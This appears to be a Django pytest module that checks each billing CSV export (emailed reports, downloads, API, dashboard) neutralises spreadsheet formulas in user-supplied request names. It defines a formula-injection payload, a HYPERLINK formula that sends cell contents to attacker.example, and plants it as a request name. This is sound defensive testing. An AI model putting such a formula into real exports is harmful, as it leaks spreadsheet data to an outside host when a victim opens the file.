"""Every CSV the billing app writes neutralises a formula in user text (docs/security.md, "Spreadsheet-safe
exports"), one test per export.

A request named ``=HYPERLINK(...)`` must reach the spreadsheet as text: the cell starts with ``'``.
"""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.core import mail
from django.urls import reverse

from allocations.models import GpuRequest
from billing.costs.services import monthly_reports_close
from tests.billing.cost_helpers import OCT, held_request, load_book, rollup
from tests.billing.test_cost_reports import OCTOBER

pytestmark = pytest.mark.django_db
ATTACK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click me")'
NEUTRALISED = "'" + ATTACK


@pytest.fixture
def hostile(demo_org, settings):
    """October with one vision request whose name is a spreadsheet formula, closed unless a test reopens it."""
    settings.PORTAL_FINANCE_EMAILS = ["finance@example.com"]
    load_book({"H100-80GB": "2.00"})
    req = held_request(team=demo_org.team, start=OCT, end=OCT + timedelta(hours=10), quantity=2)
    GpuRequest.objects.filter(pk=req.pk).update(name=ATTACK)
    rollup(cluster=demo_org.cluster, hour=OCT, request=req, util=40.0)
    return demo_org


def _names(text: str) -> list[str]:
    return [row["name"] for row in csv.DictReader(io.StringIO(text)) if row.get("row_type") == "line"]


def test_emailed_report_csvs_neutralise_formulas(hostile) -> None:
    monthly_reports_close(month=OCTOBER)
    attachments = {name: body for m in mail.outbox for name, body, _ in m.attachments if name.endswith(".csv")}
    assert set(attachments) >= {"chargeback-vision-2026-10.csv", "chargeback-lines-2026-10.csv"}
    for name in ("chargeback-vision-2026-10.csv", "chargeback-lines-2026-10.csv"):
        assert NEUTRALISED in _names(attachments[name]), name
        assert "\n=HYPERLINK" not in attachments[name] and ',"=HYPERLINK' not in attachments[name]
    summary = csv.DictReader(io.StringIO(attachments["chargeback-summary-2026-10.csv"]))
    assert all(not v.startswith(("=", "+", "@")) for row in summary for v in row.values())


def test_report_download_csv_neutralises_formulas(hostile, client) -> None:
    client.force_login(hostile.member)
    response = client.get(reverse("billing:report-download", args=["vision", 2026, 10, "csv"]))
    assert response.status_code == 200 and _names(response.content.decode()) == [NEUTRALISED]


def test_reports_api_csv_neutralises_formulas(hostile, api_client) -> None:
    monthly_reports_close(month=OCTOBER, send_email=False)
    api_client.force_authenticate(hostile.approver)
    response = api_client.get("/api/v1/reports/", {"month": "2026-10", "format": "csv"})
    assert response.status_code == 200 and NEUTRALISED in _names(response.content.decode())


def test_dashboard_cost_per_request_csv_neutralises_formulas(hostile, client) -> None:
    client.force_login(hostile.member)
    response = client.get(reverse("billing:dashboard-csv", args=["cost-per-request"]), {"month": "2026-10"})
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert NEUTRALISED in cells and ATTACK not in cells
